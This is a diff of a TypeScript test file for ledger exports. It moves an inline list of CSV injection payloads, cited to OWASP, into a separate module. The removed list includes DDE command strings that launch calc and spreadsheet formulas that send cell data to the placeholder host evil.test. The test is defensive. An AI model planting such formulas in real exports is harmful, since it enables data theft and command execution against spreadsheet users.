@@ -12,6 +12,7 @@ import { exportLedger } from '../../server/ledgers/exportLedger.ts'
 import { namesIn } from '../../server/ledgers/names.ts'
 import { sources } from '../../server/ledgers/sources.ts'
 import { day, ledgerDay, period, type LedgerDay } from './ledgerDay.ts'
+import { payloads } from './payloads.ts'
 
 let it: LedgerDay
 beforeAll(async () => {
@@ -86,56 +87,6 @@ describe.each(ledgerNames)('%s', (name) => {
     )
   })
 })
-
-/** Beginnings of formulas and of commands, hidden ones too, and what breaks a file apart (OWASP, CSV Injection). */
-const payloads = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1,1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\u0000=1+1',
-  ' =1+1',
-  '\u00a0=1+1',
-  '\u3000=1+1',
-  '\ufeff=1+1',
-  '\u200b=1+1',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  "=cmd|'/C calc'!A0",
-  "+cmd|'/C calc'!A0",
-  "-2+3+cmd|'/C calc'!A0",
-  "@SUM(1+1)*cmd|'/C calc'!A0",
-  '=HYPERLINK("http://evil.test/?x="&A1,"请点这里")',
-  '=IMPORTXML(CONCAT("http://evil.test/?v=",A1),"//a")',
-  '=WEBSERVICE("http://evil.test/")',
-  '=DDE("cmd";"/C calc";"x")',
-  '%0A-3+3',
-  '";=1+1;"',
-  '",=1+1,"',
-  '"\r\n=1+1\r\n"',
-  'a\r\n=1+1',
-  '=1+1\u0000',
-  '\u0001=1+1',
-  '\u001b]0;x\u0007=1+1',
-  '_x003D_1+1',
-  '</t></is></c><c><f>1+1</f></c>',
-  '<![CDATA[=1+1]]>',
-  '&#61;1+1',
-  '\ud800=1+1',
-  '\ufffd=1+1',
-  '\u0085=1+1',
-  '\ue000=1+1',
-  '\u2028=1+1',
-  'constructor',
-  '__proto__',
-  "'=1+1",
-  '=',
-]
 
 describe('nasty texts', () => {
   /** Ledgers share registers: each has its nasty rows on a day of its own. */
